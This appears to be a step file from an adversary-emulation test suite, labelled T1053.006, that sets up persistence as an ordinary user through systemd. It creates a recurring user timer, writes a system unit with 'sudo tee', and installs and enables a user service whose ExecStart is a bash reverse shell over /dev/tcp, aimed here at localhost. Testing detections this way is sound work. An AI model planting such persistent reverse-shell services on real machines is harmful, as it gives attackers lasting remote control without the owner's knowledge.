# Items of the suites that a user does without becoming root. A step is an item.
# shellcheck shell=bash

home_units=~/.config/systemd/user

# T1053.006: a transient timer of the user's own manager.
step suite.user-timer
systemd-run --user --unit=suite-user-timer --on-calendar='*:0/1' /bin/sh -c 'date >>/tmp/suite-user-timer'

# A service of the user's own, enabled.
step suite.user-service
mkdir -p "$home_units"
cat >"$home_units/suite-user.service" <<'UNIT'
[Service]
ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
[Install]
WantedBy=default.target
UNIT
step suite.user-enable
systemctl --user daemon-reload
systemctl --user enable suite-user.service

step suite.user-sudo-tee
printf '[Service]\nExecStart=/opt/suite/agent\n' | sudo tee /etc/systemd/system/suite-tee.service >/dev/null
